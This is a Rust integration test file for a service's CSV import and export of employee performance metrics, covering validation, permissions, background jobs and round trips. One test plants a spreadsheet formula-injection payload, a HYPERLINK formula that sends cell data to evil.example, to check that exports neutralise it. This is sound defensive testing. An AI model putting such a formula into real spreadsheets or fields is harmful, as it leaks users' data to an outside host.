//! CSV import (all or nothing, bad rows named by line) and export (scoped).

use serde_json::json;
use test_support::Call;
use test_support::{Persona, TestApp};

use crate::helpers::{ok_json, problem};

fn month(n: usize) -> String {
    format!("{:04}-{:02}", 2001 + n / 12, n % 12 + 1)
}

async fn stored_months(app: &TestApp) -> u64 {
    use sea_orm::{EntityTrait, PaginatorTrait};
    persistence::entity::metric_month::Entity::find()
        .count(app.db())
        .await
        .expect("counts")
}

async fn with_employee_ids(app: &TestApp, org: &test_support::Org) {
    for (persona, employee) in [
        (&org.agent_a1, "E-A1"),
        (&org.agent_a2, "E-A2"),
        (&org.agent_b1, "E-B1"),
    ] {
        let path = format!("/api/v1/users/{}", persona.id);
        app.as_(&org.admin)
            .patch(&path, &json!({ "employee_id": employee, "version": 1 }))
            .call()
            .await
            .ok(200);
    }
}

#[tokio::test]
async fn one_bad_row_among_a_thousand_writes_nothing_and_is_named() {
    let app = TestApp::spawn().await;
    let org = app.seed_org().await;
    with_employee_ids(&app, &org).await;
    let mut csv = String::from(
        "employee_id,month,schedule_adherence,quality_score,scheduled_hours,actual_hours\n",
    );
    for n in 0..1000 {
        let agent = if n % 2 == 0 { "E-A1" } else { "E-A2" };
        let adherence = if n == 699 {
            "250".to_owned()
        } else {
            format!("{}", 80 + n % 15)
        };
        csv.push_str(&format!(
            "{agent},{},{adherence},{},,\n",
            month(n / 2),
            85 + n % 10
        ));
    }
    let body = app
        .as_(&org.manager_a)
        .import_metrics(csv.clone())
        .await
        .problem(422);
    let errors = body["errors"].as_object().expect("errors by line");
    assert_eq!(errors.keys().collect::<Vec<_>>(), ["line 701"], "{body}");
    assert!(
        errors["line 701"][0]
            .as_str()
            .is_some_and(|m| m.contains("schedule_adherence"))
    );
    assert_eq!(stored_months(&app).await, 0, "nothing was written");

    let fixed = csv.replace(",250,", ",90,");
    let summary = app
        .as_(&org.manager_a)
        .import_metrics(fixed.clone())
        .await
        .ok(200);
    assert_eq!(
        summary,
        json!({ "rows": 1000, "created": 1000, "replaced": 0, "notes": [] })
    );
    assert_eq!(stored_months(&app).await, 1000);
    let again = app.as_(&org.manager_a).import_metrics(fixed).await.ok(200);
    assert_eq!(again["replaced"], 1000);
}

#[tokio::test]
async fn rows_outside_the_scope_and_malformed_files_are_refused() {
    let app = TestApp::spawn().await;
    let org = app.seed_org().await;
    with_employee_ids(&app, &org).await;
    let csv = "employee_id,month,quality_score\nE-A1,2026-01,90\nE-B1,2026-01,90\nE-A1,2026-13,90\nE-A1,2026-01,91\nE-ZZ,2026-01,1\nE-A2,2026-02,lots\n".to_owned();
    let body = app
        .as_(&org.manager_a)
        .import_metrics(csv)
        .await
        .problem(422);
    let errors = body["errors"].as_object().expect("errors by line");
    assert_eq!(
        errors.keys().collect::<Vec<_>>(),
        ["line 7"],
        "number errors are found before rows are resolved: {body}"
    );
    let csv = "employee_id,month,quality_score\nE-A1,2026-01,90\nE-B1,2026-01,90\nE-A1,2026-13,90\nE-A1,2026-01,91\nE-ZZ,2026-01,1\n".to_owned();
    let body = app
        .as_(&org.manager_a)
        .import_metrics(csv)
        .await
        .problem(422);
    let lines: Vec<&String> = body["errors"].as_object().expect("errors").keys().collect();
    assert_eq!(lines, ["line 3", "line 4", "line 5", "line 6"], "{body}");
    app.as_(&org.manager_a)
        .import_metrics("name,month\nx,2026-01\n".to_owned())
        .await
        .problem(422);
    app.as_(&org.leader_a)
        .import_metrics("employee_id,month,quality_score\nE-A1,2026-01,90\n".to_owned())
        .await
        .problem(403);
    app.as_(&org.agent_a1)
        .import_metrics("employee_id,month,quality_score\nE-A1,2026-01,90\n".to_owned())
        .await
        .problem(403);
    let not_csv = app
        .as_(&org.manager_a)
        .post("/api/v1/metrics/import", &json!({ "rows": [] }))
        .send()
        .await
        .expect("answers");
    problem(not_csv, 415).await;
    // By email, any case.
    let by_email = format!(
        "email,month,quality_score\n{},2026-01,90\n",
        org.agent_a2.email.to_uppercase()
    );
    app.as_(&org.manager_a)
        .import_metrics(by_email)
        .await
        .ok(200);
}

#[tokio::test]
async fn the_export_has_the_import_columns_and_only_the_actors_agents() {
    let app = TestApp::spawn().await;
    let org = app.seed_org().await;
    with_employee_ids(&app, &org).await;
    let csv = "employee_id,month,quality_score,schedule_adherence\nE-A1,2026-01,90,80\nE-A2,2026-01,70,\n".to_owned();
    app.as_(&org.admin).import_metrics(csv).await.ok(200);
    app.as_(&org.admin)
        .import_metrics("employee_id,month,quality_score\nE-B1,2026-01,60\n".to_owned())
        .await
        .ok(200);

    let export = |who| {
        let app = &app;
        async move {
            let response = app
                .as_(who)
                .get("/api/v1/metrics/export.csv?from=2025-06&to=2026-06")
                .send()
                .await
                .expect("answers");
            assert_eq!(response.status(), 200);
            assert!(
                response
                    .headers()
                    .get("content-type")
                    .and_then(|v| v.to_str().ok())
                    .is_some_and(|v| v.starts_with("text/csv"))
            );
            response.text().await.expect("text")
        }
    };
    let leader = export(&org.leader_a).await;
    let lines: Vec<&str> = leader.lines().collect();
    assert!(
        lines[0].starts_with("employee_id,email,month,schedule_adherence,"),
        "{}",
        lines[0]
    );
    assert!(lines[0].ends_with(",score"));
    assert_eq!(lines.len(), 3, "{leader}");
    assert!(!leader.contains("E-B1"));
    // (1.0 x 80 + 1.5 x 90) / 2.5 = 86
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("E-A1,") && l.ends_with(",86")),
        "{leader}"
    );
    let agent = export(&org.agent_a2).await;
    assert_eq!(
        agent.lines().count(),
        2,
        "an agent exports their own rows: {agent}"
    );
    assert_eq!(export(&org.admin).await.lines().count(), 4);
    assert_eq!(export(&org.leader_b).await.lines().count(), 2);
    app.as_(&org.admin)
        .get("/api/v1/metrics/export.csv?from=June")
        .call()
        .await
        .problem(422);
}

#[tokio::test]
async fn a_large_import_can_run_in_the_background_with_progress() {
    let app = TestApp::spawn().await;
    let org = app.seed_org().await;
    with_employee_ids(&app, &org).await;
    let mut csv = String::from("employee_id,month,quality_score\n");
    for n in 0..600 {
        csv.push_str(&format!("E-A1,{},{}\n", month(n), 80 + n % 20));
    }
    let manager = &org.manager_a;
    let start = |body: String| {
        let app = &app;
        async move {
            app.as_(manager)
                .request(reqwest::Method::POST, "/api/v1/metrics/import")
                .header("content-type", "text/csv")
                .header("prefer", "respond-async")
                .body(body)
                .call()
                .await
        }
    };
    start("employee_id,month,quality_score\nE-A1,2026-01,900\n".to_owned())
        .await
        .problem(422);
    let accepted = start(csv).await;
    let location = accepted
        .headers()
        .get("location")
        .and_then(|v| v.to_str().ok())
        .expect("a Location")
        .to_owned();
    let job = ok_json(accepted, 202).await;
    assert_eq!(
        (job["status"].clone(), job["total"].clone()),
        (json!("RUNNING"), json!(600))
    );

    let mut finished = None;
    for _ in 0..300 {
        let job = app.as_(&org.manager_a).get(&location).call().await.ok(200);
        if job["status"] != "RUNNING" {
            finished = Some(job);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let job = finished.expect("the import finishes");
    assert_eq!(job["status"], "SUCCEEDED", "{job}");
    assert_eq!(
        (job["processed"].clone(), job["created"].clone()),
        (json!(600), json!(600))
    );
    assert_eq!(stored_months(&app).await, 600);
    app.as_(&org.manager_b)
        .get(&location)
        .call()
        .await
        .problem(404);
    app.as_(&org.admin).get(&location).call().await.ok(200);
}

async fn export(app: &TestApp, who: &Persona) -> String {
    let response = app
        .as_(who)
        .get("/api/v1/metrics/export.csv?from=2025-01&to=2025-12")
        .send()
        .await
        .expect("answers");
    assert_eq!(response.status(), 200);
    assert_eq!(
        response
            .headers()
            .get("cache-control")
            .and_then(|v| v.to_str().ok()),
        Some("no-store"),
        "personal data is not cached"
    );
    response.text().await.expect("text")
}

#[tokio::test]
async fn a_file_of_millions_of_bad_lines_gets_a_short_answer() {
    let app = TestApp::spawn_with(|config| config.http.body_limit = 10 * 1024 * 1024).await;
    let org = app.seed_org().await;
    let mut csv = String::from("employee_id,month,quality_score\n");
    csv.push_str(&"x\n".repeat(2_000_000));
    let response = app.as_(&org.admin).import_metrics(csv).await;
    let length = response.text().len() as u64;
    let body = problem(response, 422).await;
    let errors = body["errors"].as_object().expect("errors");
    assert_eq!(
        errors.len(),
        101,
        "the first 100 lines and a count: {length} bytes"
    );
    assert!(
        errors["file"][0]
            .as_str()
            .is_some_and(|m| m.starts_with("1999900 more problems")),
        "{}",
        errors["file"]
    );
    assert!(length < 20_000, "a small body, not {length} bytes");
}

#[tokio::test]
async fn exported_cells_cannot_run_as_formulas_and_import_back_unchanged() {
    let app = TestApp::spawn().await;
    let org = app.seed_org().await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&B2,"open")"#;
    let path = format!("/api/v1/users/{}", org.agent_a1.id);
    app.as_(&org.manager_a)
        .patch(&path, &json!({ "employee_id": formula, "version": 1 }))
        .call()
        .await
        .ok(200);
    let metrics = format!("/api/v1/agents/{}/metrics/2025-03", org.agent_a1.id);
    app.as_(&org.leader_a)
        .request(reqwest::Method::PUT, &metrics)
        .json(&json!({ "quality_score": 91.5 }))
        .call()
        .await
        .ok(200);
    let csv = export(&app, &org.admin).await;
    let row = csv
        .lines()
        .find(|line| line.contains("HYPERLINK"))
        .expect("the agent's row");
    assert!(
        row.starts_with(r#""'=HYPERLINK("#),
        "the cell is text to a spreadsheet: {row}"
    );
    // The file as downloaded imports unchanged: the employee id is read back as it was.
    let summary = app.as_(&org.admin).import_metrics(csv).await.ok(200);
    assert_eq!(summary["rows"], 1, "{summary}");
    assert_eq!(summary["replaced"], 1);
}

#[tokio::test]
async fn the_export_imports_back_unchanged_with_the_score_ignored() {
    let app = TestApp::spawn().await;
    let org = app.seed_org().await;
    with_employee_ids(&app, &org).await;
    for (agent, value) in [(&org.agent_a1, 88.0), (&org.agent_a2, 72.5)] {
        let path = format!("/api/v1/agents/{}/metrics/2025-05", agent.id);
        app.as_(&org.leader_a)
            .request(reqwest::Method::PUT, &path)
            .json(&json!({ "quality_score": value, "schedule_adherence": 90 }))
            .call()
            .await
            .ok(200);
    }
    // An agent without an employee id is found by email.
    let path = format!("/api/v1/users/{}", org.agent_a2.id);
    app.as_(&org.admin)
        .patch(&path, &json!({ "employee_id": null, "version": 2 }))
        .call()
        .await
        .ok(200);
    let csv = export(&app, &org.manager_a).await;
    assert!(csv.starts_with("employee_id,email,month,"), "{csv}");
    assert!(csv.lines().next().is_some_and(|h| h.ends_with(",score")));
    let summary = app
        .as_(&org.manager_a)
        .import_metrics(csv.clone())
        .await
        .ok(200);
    assert_eq!(summary["rows"], 2, "{summary}");
    assert_eq!(summary["replaced"], 2);
    assert_eq!(
        summary["notes"],
        json!(["column `score` is computed by the server and was ignored"])
    );
    assert_eq!(export(&app, &org.manager_a).await, csv, "nothing changed");
}
